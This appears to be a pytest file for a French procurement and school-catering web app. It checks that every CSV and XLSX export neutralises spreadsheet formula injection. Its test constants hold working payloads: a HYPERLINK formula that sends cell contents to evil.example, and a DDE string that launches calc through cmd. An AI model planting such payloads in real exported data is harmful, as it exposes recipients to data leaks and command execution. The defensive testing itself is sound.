"""No export hands a spreadsheet a live formula (OWASP "CSV Injection"), whatever the stored text says.

Values come from third-party DECP and food files: each export is fetched over HTTP with hostile text in
every free-text field it shows, and every cell is checked, in CSV and in XLSX.
"""

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.core.tabular import FORMULA_TRIGGERS, csv_bytes, neutralize, xlsx_bytes
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
HOSTILE = [EVIL, "+33 1 23", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _csv_cells(content: bytes):
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


NUMBER = re.compile(r"-?\d[\d\u202f\u00a0 ]*(,\d+)?")  # a negative number, written the French way, is data


def _assert_safe_csv(content: bytes):
    dangerous = [
        cell for cell in _csv_cells(content) if cell.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell)
    ]
    assert dangerous == []


def _assert_safe_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_starting_a_formula_get_a_leading_quote(value):
    assert _csv_cells(csv_bytes(["Champ"], [[value]]))[1] == "'" + value
    assert _csv_cells(csv_bytes(["Champ"], [[value]], french=False))[1] == "'" + value


def test_numbers_and_harmless_text_are_written_unchanged():
    cells = _csv_cells(csv_bytes(["a", "b", "c"], [[Decimal("-12.50"), -3, "Rue de l'Égalité"]]))
    assert cells[3:] == ["-12,50", "-3", "Rue de l'Égalité"]
    assert neutralize("a=b") == "a=b"


def test_xlsx_text_cells_are_text_and_numbers_numbers():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([EVIL], [[EVIL, Decimal("-4.5")]]))).worksheets[0]
    rows = list(sheet.iter_rows())
    assert rows[0][0].data_type == "s"
    assert (rows[1][0].value, rows[1][0].data_type) == (EVIL, "s")
    assert (rows[1][1].value, rows[1][1].data_type) == (-4.5, "n")


@pytest.fixture
def hostile_data(db, admin):
    buyer = factories.BuyerFactory(name=EVIL)
    company = factories.CompanyFactory(name="@SUM(1+1)")
    contract = factories.ContractFactory(buyer=buyer, object="+33 1 23 " + EVIL, holders=[company])
    clause = factories.ClauseFactory(contract=contract)
    factories.HourEntryFactory(clause=clause, employer=company)
    site = factories.CateringSiteFactory(
        buyer=buyer, name="-2+3+cmd|' /C calc'!A0", siret=factories.make_siret()
    )
    supplier = factories.SupplierFactory(name=EVIL)
    factories.PurchaseFactory(site=site, supplier=supplier, description="=1+1")
    factories.ObjectiveFactory(buyer=buyer, year=2025)
    return {"buyer": buyer, "site": site}


EXPORTS = [
    "/marches/export.csv",
    "/marches/export.xlsx",
    "/marches/export.csv?archives=1",
    "/heures/?format=csv",
    "/heures/?format=xlsx",
    "/heures/retards?format=csv",
    "/heures/saisies?format=csv",
    "/heures/saisies?format=xlsx",
    "/heures/beneficiaires?format=csv",
    "/heures/beneficiaires?format=xlsx",
    "/participants/?format=csv",
    "/participants/?format=xlsx",
    "/alimentation/achats/export.csv",
    "/alimentation/achats/export.xlsx",
    "/alimentation/sites/{site}/chiffres.csv?annee=2025",
    "/alimentation/sites/{site}/ma-cantine.csv?annee=2025",
    "/alimentation/acheteurs/{buyer}/chiffres.csv?annee=2025",
    "/rapports/indicateurs.csv?acheteur={buyer}&annee=2025",
]


@pytest.mark.parametrize("url", EXPORTS)
def test_every_export_is_safe_to_open(as_admin, hostile_data, url):
    response = as_admin.get(url.format(site=hostile_data["site"].id, buyer=hostile_data["buyer"].id))
    assert response.status_code == 200, url
    if "xlsx" in response.content_type or "spreadsheetml" in response.content_type:
        _assert_safe_xlsx(response.data)
    else:
        assert "text/csv" in response.content_type, response.content_type
        _assert_safe_csv(response.data)


def test_control_characters_do_not_break_an_xlsx_export():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"], [["Ligne\x01 avec\x0b contrôle"]]))).worksheets[0]
    assert sheet["A2"].value == "Ligne avec contrôle"
